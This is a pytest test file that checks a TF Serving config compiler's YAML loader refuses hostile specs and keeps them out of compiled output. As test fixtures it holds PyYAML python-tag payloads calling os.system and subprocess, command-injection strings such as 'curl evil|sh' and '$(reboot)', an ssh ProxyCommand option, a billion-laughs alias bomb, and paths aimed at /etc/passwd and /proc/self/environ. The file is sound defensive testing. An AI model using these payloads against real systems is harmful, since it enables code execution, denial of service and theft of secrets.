"""The spec loader never executes YAML, and unsafe values never reach compiled artifacts.

Like copier's tests/test_config.py: hostile documents are loaded for real and the test
checks both the refusal (a diagnostic) and the absence of side effects (a marker file the
payload would have created, an output directory left untouched).
"""

from __future__ import annotations

import copy
import os
from collections.abc import Callable
from pathlib import Path

import pytest
import yaml
from cliprobe import tfsconf
from typer.testing import CliRunner

from tfsconf import api
from tfsconf.cli.app import app
from tfsconf.errors import SpecError, UserError
from tfsconf.spec.files import MAX_SAMPLES_BYTES, MAX_SPEC_BYTES
from tfsconf.spec.yamlload import MAX_VALUES
from tfsconf.validate.load import load_environment

GOOD: dict[str, object] = {
    "environment": "test",
    "tfserving_version": "2.18.0",
    "host_groups": {
        "main": {"hosts": [{"name": "host-1", "address": "10.0.0.1", "gpus": 1}]},
    },
    "servers": [{"name": "srv", "group": "main", "gpu": 0, "models": ["ctr"]}],
    "models": [
        {
            "name": "ctr",
            "base_path": "/srv/tfserving/models/ctr",
            "source": {"kind": "local", "path": "/mnt/models/ctr"},
        }
    ],
}

SPEC_TAIL = """\
tfserving_version: "2.18.0"
host_groups:
  main:
    hosts:
      - {name: host-1, address: 10.0.0.1, gpus: 1}
servers:
  - name: srv
    group: main
    gpu: 0
    models: [ctr]
models:
  - name: ctr
    base_path: /srv/tfserving/models/ctr
    source: {kind: local, path: /mnt/models/ctr}
"""


def _write(path: Path, text: str) -> Path:
    path.write_text(text, encoding="utf-8")
    return path


def _diagnostics(spec: Path) -> list[str]:
    with pytest.raises(SpecError) as raised:
        load_environment(spec)
    return [d.render() for d in raised.value.diagnostics]


# --- tags ---------------------------------------------------------------------------------

# Each would create the marker file if a constructor ran.
PYTHON_TAG_DOCUMENTS = {
    "apply_os_system": 'environment: !!python/object/apply:os.system ["touch {marker}"]\n',
    "apply_subprocess": (
        'environment: !!python/object/apply:subprocess.check_call [["touch", "{marker}"]]\n'
    ),
    "apply_open": 'environment: !!python/object/apply:builtins.open ["{marker}", "w"]\n',
    "new_mapping": (
        "environment: test\n"
        "image: !!python/object/new:subprocess.Popen {{args: [touch, '{marker}']}}\n"
    ),
    "nested_in_list": (
        'environment: test\nextra:\n  - !!python/object/apply:os.system ["touch {marker}"]\n'
    ),
    "as_mapping_key": (
        'environment: test\n? !!python/object/apply:os.system ["touch {marker}"]\n: value\n'
    ),
}


@pytest.mark.parametrize("document", PYTHON_TAG_DOCUMENTS.values(), ids=PYTHON_TAG_DOCUMENTS)
def test_python_tags_are_rejected_and_never_run(document: str, tmp_path: Path) -> None:
    marker = tmp_path / "pwned"
    spec = _write(tmp_path / "env.yaml", document.format(marker=marker))

    rendered = _diagnostics(spec)

    assert any(
        "tags are not allowed" in line or "mapping keys must be plain strings" in line
        for line in rendered
    ), rendered
    assert not marker.exists(), "a python tag was constructed"


def test_python_tag_is_reported_with_its_position(tmp_path: Path) -> None:
    marker = tmp_path / "pwned"
    text = f'environment: !!python/object/apply:os.system ["touch {marker}"]\n' + SPEC_TAIL
    spec = _write(tmp_path / "env.yaml", text)

    with pytest.raises(SpecError) as raised:
        load_environment(spec)

    [diagnostic] = raised.value.diagnostics
    assert (diagnostic.line, diagnostic.column, diagnostic.path) == (1, 14, ("environment",))
    assert "tags are not allowed" in diagnostic.message
    assert not marker.exists()


@pytest.mark.parametrize(
    "value",
    ["!include /etc/passwd", "!!binary aGVsbG8=", "!!set {a, b}", "!env HOME"],
    ids=["custom_include", "binary", "set", "custom_env"],
)
def test_non_standard_tags_are_rejected(value: str, tmp_path: Path) -> None:
    spec = _write(tmp_path / "env.yaml", f"environment: {value}\n" + SPEC_TAIL)

    rendered = _diagnostics(spec)

    assert any(":1:14: error: environment: tags are not allowed" in r for r in rendered), rendered


# --- aliases and merge keys ---------------------------------------------------------------


def test_alias_bomb_is_rejected_by_size(tmp_path: Path) -> None:
    # 9 ** 9 (about 387 million) strings from a 1 KB document: "billion laughs".
    lines = ['l0: &l0 ["lol","lol","lol","lol","lol","lol","lol","lol","lol"]']
    lines += [f"l{i}: &l{i} [{','.join([f'*l{i - 1}'] * 9)}]" for i in range(1, 9)]
    spec = _write(tmp_path / "bomb.yaml", "\n".join(lines) + "\n")
    assert spec.stat().st_size < 1024

    with pytest.raises(SpecError) as raised:
        load_environment(spec)

    [diagnostic] = raised.value.diagnostics
    assert "alias bomb" in diagnostic.message
    assert diagnostic.path == ("l5",)


def test_merge_keys_are_rejected(tmp_path: Path) -> None:
    text = (
        "environment: test\n"
        'tfserving_version: "2.18.0"\n'
        "x-server: &server {group: main, gpu: 0}\n"
        "host_groups:\n"
        "  main:\n"
        "    hosts:\n"
        "      - {name: host-1, address: 10.0.0.1, gpus: 1}\n"
        "servers:\n"
        "  - name: srv\n"
        "    <<: *server\n"
        "    models: [ctr]\n"
        "models:\n"
        "  - name: ctr\n"
        "    base_path: /srv/tfserving/models/ctr\n"
        "    source: {kind: local, path: /mnt/models/ctr}\n"
    )
    spec = _write(tmp_path / "env.yaml", text)

    with pytest.raises(SpecError) as raised:
        load_environment(spec)

    merge = [d for d in raised.value.diagnostics if d.line == 10]
    assert merge, [d.render() for d in raised.value.diagnostics]
    assert all(d.severity == "error" and d.column == 5 for d in merge)
    assert any("<<" in d.render() for d in merge)


# --- injection never reaches compile output -----------------------------------------------


def _set(path: tuple[str | int, ...], value: object) -> Callable[[dict[str, object]], None]:
    def mutate(spec: dict[str, object]) -> None:
        node: object = spec
        for part in path[:-1]:
            node = node[part]  # type: ignore[index]
        node[path[-1]] = value  # type: ignore[index]

    return mutate


INJECTIONS: dict[str, tuple[str, Callable[[dict[str, object]], None]]] = {
    "model_name_newline": (
        "RUN touch /pwned",
        _set(("models", 0, "name"), "ctr\nRUN touch /pwned"),
    ),
    "server_model_newline": (
        "RUN touch /pwned",
        _set(("servers", 0, "models"), ["ctr\nRUN touch /pwned"]),
    ),
    "image_tag_semicolon": (
        "touch /pwned",
        lambda s: s.update(
            image={"registry": "registry.example.com/ml/tfserving", "tag": "2.18.0; touch /pwned"}
        ),
    ),
    "image_base_semicolon": (
        "curl evil",
        lambda s: s.update(image={"base_cpu": "tensorflow/serving:2.18.0;curl evil|sh"}),
    ),
    "extra_package_and_and": (
        "touch /pwned",
        lambda s: s.update(image={"extra_packages": ["curl=7.81.0 && touch /pwned"]}),
    ),
    "malloc_conf_substitution": (
        "$(reboot)",
        lambda s: s.update(
            image={"allocator": {"malloc_conf": "background_thread:true,$(reboot)"}}
        ),
    ),
    "host_address_option": (
        "ProxyCommand",
        _set(("host_groups", "main", "hosts", 0, "address"), "10.0.0.1 -oProxyCommand=evil"),
    ),
    "base_path_semicolon": (
        "touch /pwned",
        _set(("models", 0, "base_path"), "/srv/tfserving/models/ctr;touch /pwned"),
    ),
    "grpc_argument_extra_flag": (
        "--evil",
        _set(("servers", 0, "grpc_channel_arguments"), ["grpc.x=1 --evil=1"]),
    ),
}


def _tree(root: Path) -> dict[str, bytes]:
    return {str(p.relative_to(root)): p.read_bytes() for p in root.rglob("*") if p.is_file()}


@pytest.mark.parametrize("case", INJECTIONS)
def test_injection_never_reaches_compile_output(case: str, tmp_path: Path) -> None:
    payload, mutate = INJECTIONS[case]
    out = tmp_path / "out"
    good = _write(tmp_path / "good.yaml", yaml.safe_dump(GOOD, sort_keys=False))
    api.compile_environment(good, out)
    before = _tree(out)
    assert before, "the good spec compiled to nothing"
    hostile = copy.deepcopy(GOOD)
    mutate(hostile)
    spec = _write(tmp_path / "hostile.yaml", yaml.safe_dump(hostile, sort_keys=False))

    with pytest.raises(SpecError):
        api.compile_environment(spec, out)

    after = _tree(out)
    assert after == before, "a refused compile changed the output directory"
    assert not any(payload.encode() in content for content in after.values())


@pytest.mark.parametrize(
    ("document", "message"),
    [
        ("environment: x\nhost_groups: &a\n  g: *a\n", "recursive alias"),
        ("environment: " + "[" * 900 + "]" * 900 + "\n", "nested deeper than"),
        ("environment: x\nimage: null\n", "null is not allowed"),
    ],
    ids=["recursive_alias", "deep_nesting", "explicit_null"],
)
def test_hostile_structure_is_a_diagnostic(tmp_path: Path, document: str, message: str) -> None:
    spec = _write(tmp_path / "hostile.yaml", document)
    assert any(message in line for line in _diagnostics(spec))


# --- scalars: explicit tags, malformed and huge numbers (issue 12, section 2) -------------


def _only(spec: Path) -> list[object]:
    with pytest.raises(SpecError) as raised:
        load_environment(spec)
    return list(raised.value.diagnostics)


@pytest.mark.parametrize(
    ("value", "message"),
    [
        ('!!int "abc"', "not an integer"),
        ("!!int", "not an integer"),
        ("!!float xyz", "not a number"),
        ("!!bool maybe", "not a boolean"),
        ("0x_", "not an integer"),
        ("0b_", "not an integer"),
        ("9" * 5000, "number too long"),
        ("0x" + "f" * 5000, "number too long"),
        ("1" + ":59" * 3000, "number too long"),
        ("1." + "5" * 5000, "number too long"),
        ("!!float " + "9" * 5000, "number too long"),
    ],
    ids=[
        "int_tag_text",
        "int_tag_empty",
        "float_tag_text",
        "bool_tag_text",
        "hex_empty",
        "binary_empty",
        "long_decimal",
        "long_hex",
        "long_base60",
        "long_float",
        "long_tagged_float",
    ],
)
def test_bad_number_is_a_located_diagnostic(tmp_path: Path, value: str, message: str) -> None:
    spec = _write(tmp_path / "env.yaml", SPEC_TAIL + f"rollout:\n  keep_releases: {value}\n")

    [diagnostic] = _only(spec)

    assert diagnostic.render().startswith(f"{spec}:16:18: error: rollout.keep_releases: ")
    assert message in diagnostic.render()
    assert len(diagnostic.render()) < 300


def test_megabyte_base60_integer_is_refused_quickly(tmp_path: Path) -> None:
    # PyYAML reads base-60 integers digit group by digit group: 15 s for 1 MB
    digits = "1" + ":59" * 340_000
    spec = _write(tmp_path / "env.yaml", f"environment: {digits}\n" + SPEC_TAIL)

    [diagnostic] = _only(spec)  # refused by its length, never converted

    assert (diagnostic.line, diagnostic.column) == (1, 14)
    assert "number too long" in diagnostic.message


def test_huge_value_from_validation_prints(tmp_path: Path) -> None:
    # the longest literal allowed still makes a value too large for the port field
    spec = _write(
        tmp_path / "env.yaml",
        SPEC_TAIL.replace("gpu: 0\n", "gpu: 0\n    grpc_port: " + "9" * 99 + "\n", 1),
    )

    rendered = _diagnostics(spec)

    assert any(":10:16: error: servers[0].grpc_port:" in line for line in rendered), rendered


# --- size and shape limits (issue 12, section 3) ------------------------------------------


def test_oversized_file_is_refused_before_parsing(tmp_path: Path) -> None:
    spec = tmp_path / "big.yaml"
    spec.write_bytes(b"environment: x\n# " + b"x" * MAX_SPEC_BYTES + b"\n")

    with pytest.raises(UserError) as raised:
        load_environment(spec)

    assert f"more than the limit of {MAX_SPEC_BYTES} bytes" in str(raised.value)
    assert not isinstance(raised.value, SpecError)


@pytest.mark.parametrize("special", ["/dev/zero", "fifo"])
def test_spec_must_be_a_regular_file(tmp_path: Path, special: str) -> None:
    path = Path(special)
    if special == "fifo":
        path = tmp_path / "spec.yaml"
        os.mkfifo(path)

    with pytest.raises(UserError, match="not a regular file"):
        load_environment(path)


def test_node_count_stops_composing(tmp_path: Path) -> None:
    # one flow list of 400,000 items, under the size limit: the composer stops at the
    # value cap instead of building every node (a 50 MB one used to take > 2 GiB)
    items = ",".join(["1"] * 400_000)
    spec = _write(tmp_path / "flow.yaml", f"environment: x\nservers: [{items}]\n")

    [diagnostic] = _only(spec)

    assert f"more than {MAX_VALUES} values" in diagnostic.message
    # the first value past the cap (the mapping, its keys and the list count too)
    assert (diagnostic.line, diagnostic.column) == (2, 11 + 2 * (MAX_VALUES - 5))


@pytest.mark.parametrize(
    ("depth", "message", "column"),
    [(900, "nested deeper than 32 levels", 41), (200_000, "maximum nesting depth", 1009)],
)
def test_deep_nesting_stops_composing(
    tmp_path: Path, depth: int, message: str, column: int
) -> None:
    # PyYAML's C composer recurses per level: deep enough, it overflows the C stack (a
    # segfault). tfsconf stops composing at its own depth limit; libyaml refuses beyond 1000
    # levels while parsing.
    spec = _write(tmp_path / "deep.yaml", "environment: x\nservers: " + "[" * depth + "\n")

    [diagnostic] = _only(spec)

    assert message in diagnostic.message
    assert (diagnostic.line, diagnostic.column) == (2, column)


# --- every error located and complete (issue 12, section 4) -------------------------------


def test_alias_bomb_is_located_at_the_entry_that_explodes(tmp_path: Path) -> None:
    lines = ['l0: &l0 ["lol","lol","lol","lol","lol","lol","lol","lol","lol"]']
    lines += [f"l{i}: &l{i} [{','.join([f'*l{i - 1}'] * 9)}]" for i in range(1, 9)]
    spec = _write(tmp_path / "bomb.yaml", "\n".join(lines) + "\n")

    [diagnostic] = _only(spec)

    # l0..l4 expand to 10 + 91 + 820 + 7,381 + 66,430 values (each list counts too), l5
    # to 597,871: it crosses the cap
    assert diagnostic.render().startswith(f"{spec}:6:1: error: l5: expands through aliases")


def test_invalid_utf8_is_located_by_line_and_column(tmp_path: Path) -> None:
    spec = tmp_path / "env.yaml"
    spec.write_bytes(b"environment: test\nimage:\n  tag: caf\xc3\xa9-\xff\n")

    [diagnostic] = _only(spec)

    assert diagnostic.render().startswith(f"{spec}:3:13: error: <root>: not UTF-8 text")


# --- files the spec names (issue 12, section 6) -------------------------------------------

WARMUP_SPEC = SPEC_TAIL.replace(
    "    source: {kind: local, path: /mnt/models/ctr}\n",
    "    source: {kind: local, path: /mnt/models/ctr}\n"
    "    warmup: {samples: SAMPLES, records: 4, batch_sizes: [1]}\n",
)


def _warmup_spec(directory: Path, samples: str) -> Path:
    text = "environment: test\n" + WARMUP_SPEC.replace("SAMPLES", samples)
    return _write(directory / "env.yaml", text)


def _samples_diagnostic(spec: Path, root: Path | None = None) -> str:
    with pytest.raises(SpecError) as raised:
        load_environment(spec, root=root)
    [diagnostic] = [d for d in raised.value.diagnostics if d.severity == "error"]
    rendered = diagnostic.render()
    assert rendered.startswith(f"{spec}:16:23: error: models[0].warmup.samples: "), rendered
    return rendered


def test_samples_outside_the_spec_tree_are_refused(tmp_path: Path) -> None:
    assert "lies outside" in _samples_diagnostic(_warmup_spec(tmp_path, "/etc/passwd"))


def test_samples_link_out_of_the_spec_tree_is_refused(tmp_path: Path) -> None:
    (tmp_path / "samples.jsonl").symlink_to("/etc/passwd")
    rendered = _samples_diagnostic(_warmup_spec(tmp_path, "samples.jsonl"))
    assert "lies outside" in rendered
    assert "/etc/passwd" in rendered


def test_samples_climbing_out_are_refused(tmp_path: Path) -> None:
    inner = tmp_path / "env"
    inner.mkdir()
    (tmp_path / "secret.jsonl").write_text('{"x": [1]}\n')
    link = inner / "up"
    link.symlink_to(tmp_path)
    assert "lies outside" in _samples_diagnostic(_warmup_spec(inner, "up/secret.jsonl"))


@pytest.mark.parametrize(
    ("samples", "message"),
    [
        ("/proc/self/mem", "pseudo file"),
        ("/proc/self/environ", "pseudo file"),
        ("/dev/zero", "not a regular file"),
        ("fifo.jsonl", "not a regular file"),
        ("dir.jsonl", "not a regular file"),
        ("big.jsonl", "more than the limit"),
    ],
)
def test_samples_must_be_a_bounded_regular_file(tmp_path: Path, samples: str, message: str) -> None:
    os.mkfifo(tmp_path / "fifo.jsonl")
    (tmp_path / "dir.jsonl").mkdir()
    with open(tmp_path / "big.jsonl", "wb") as big:
        big.truncate(MAX_SAMPLES_BYTES + 1)  # sparse: no disk used
    root = Path("/") if samples.startswith("/") else None  # the user's explicit choice

    assert message in _samples_diagnostic(_warmup_spec(tmp_path, samples), root=root)


def test_an_explicit_root_admits_files_beside_the_spec_tree(tmp_path: Path) -> None:
    (tmp_path / "samples").mkdir()
    (tmp_path / "samples" / "ctr.jsonl").write_text('{"x": [1.0]}\n')
    envs = tmp_path / "environments"
    envs.mkdir()
    spec = _warmup_spec(envs, str(tmp_path / "samples" / "ctr.jsonl"))
    assert "lies outside" in _samples_diagnostic(spec)

    loaded = load_environment(spec, root=tmp_path)

    assert loaded.resolved.hosts[0].servers[0].models[0].warmup is not None


# --- every class through the CLI: exit 1, located, no traceback, the build untouched -------

GOOD_TEXT = "environment: test\n" + SPEC_TAIL
BAD_SPECS = Path(__file__).parent / "testdata" / "bad"

# name -> (document, expected "LINE:COL: error: PATH: message" fragment)
CLI_CASES: dict[str, tuple[bytes, str]] = {
    "tagged_int": (
        GOOD_TEXT.encode() + b'rollout: {keep_releases: !!int "abc"}\n',
        ":16:26: error: rollout.keep_releases: not an integer",
    ),
    "huge_hex": (
        GOOD_TEXT.encode() + b"rollout: {keep_releases: 0x" + b"f" * 9000 + b"}\n",
        ":16:26: error: rollout.keep_releases: number too long",
    ),
    "base60_megabyte": (
        b"environment: 1" + b":59" * 340_000 + b"\n" + SPEC_TAIL.encode(),
        ":1:14: error: environment: number too long",
    ),
    "flow_list": (
        b"environment: x\nservers: [" + b"1," * 300_000 + b"1]\n",
        f":2:{11 + 2 * (MAX_VALUES - 5)}: error: <root>: document has more than",
    ),
    "deep": (b"environment: x\nservers: " + b"[" * 100_000 + b"\n", ":2:"),
    "bad_utf8": (GOOD_TEXT.encode() + b"x: \xff\n", ":16:4: error: <root>: not UTF-8 text"),
    "python_tag": (
        b"environment: !!python/object/apply:os.system [touch /tmp/x]\n" + SPEC_TAIL.encode(),
        ":1:14: error: environment: tags are not allowed",
    ),
    "alias_bomb": (
        "\n".join(
            ['l0: &l0 ["lol","lol","lol","lol","lol","lol","lol","lol","lol"]']
            + [f"l{i}: &l{i} [{','.join([f'*l{i - 1}'] * 9)}]" for i in range(1, 9)]
        ).encode()
        + b"\n",
        ":6:1: error: l5: expands through aliases",
    ),
    "default_wrong_for_one_server": (
        (BAD_SPECS / "prometheus_default_without_rest_port.yaml").read_bytes(),
        ":8:19: error: defaults.server.monitoring.prometheus: Prometheus metrics are served on "
        "the REST port: rest_port must not be 0 (for server 'srv-grpc-only', servers[1])",
    ),
    "old_release_both_passes": (
        (BAD_SPECS / "several_old_release_allocator_and_flag.yaml").read_bytes(),
        ":13:38: error: servers[0].enable_grpc_healthcheck_service: "
        "--enable_grpc_healthcheck_service needs TF Serving 2.15",
    ),
    "samples_proc_mem_under_root": (
        WARMUP_SPEC.replace("SAMPLES", "/proc/self/mem").encode() + b"environment: test\n",
        ":15:23: error: models[0].warmup.samples: samples file /proc/self/mem: is a pseudo file",
    ),
    "samples_outside": (
        WARMUP_SPEC.replace("SAMPLES", "/etc/passwd").encode() + b"environment: test\n",
        ":15:23: error: models[0].warmup.samples: samples file /etc/passwd: lies outside",
    ),
}


def _cli_tree(root: Path) -> dict[str, bytes | None]:
    """Every entry under root: a file's bytes, None for a directory."""
    return {
        str(p.relative_to(root)): p.read_bytes() if p.is_file() else None
        for p in sorted(root.rglob("*"))
    }


@pytest.fixture(scope="module")
def built(tmp_path_factory: pytest.TempPathFactory) -> tuple[Path, dict[str, bytes | None]]:
    directory = tmp_path_factory.mktemp("cli")
    out = directory / "out"
    api.compile_environment(_write(directory / "good.yaml", GOOD_TEXT), out)
    return out, _cli_tree(out)


@pytest.mark.parametrize("case", CLI_CASES)
def test_hostile_input_through_the_cli(
    case: str, tmp_path: Path, built: tuple[Path, dict[str, bytes | None]]
) -> None:
    document, expected = CLI_CASES[case]
    out, before = built
    spec = tmp_path / "hostile.yaml"
    spec.write_bytes(document)
    fresh = tmp_path / "fresh"
    root = ["--root", "/"] if "under_root" in case else []  # the user's explicit choice

    for args in (["validate", str(spec)], ["compile", str(spec), "--out", str(out)]):
        result = CliRunner().invoke(app, [*args, *root])
        assert result.exit_code == 1, result.output
        assert f"{spec}{expected}" in result.stderr, result.stderr
        assert "Traceback" not in result.output
    assert (
        CliRunner().invoke(app, ["compile", str(spec), "--out", str(fresh), *root]).exit_code == 1
    )
    assert _cli_tree(out) == before
    assert not fresh.exists()


@pytest.mark.parametrize("case", ["tagged_int", "base60_megabyte", "bad_utf8"])
def test_hostile_input_through_a_real_process(
    case: str, tmp_path: Path, built: tuple[Path, dict[str, bytes | None]]
) -> None:
    document, expected = CLI_CASES[case]
    out, before = built
    spec = tmp_path / "hostile.yaml"
    spec.write_bytes(document)

    result = tfsconf("compile", str(spec), "--out", str(out))

    assert result.returncode == 1, result.stderr
    assert f"{spec}{expected}" in result.stderr
    assert "Traceback" not in result.stderr
    assert _cli_tree(out) == before
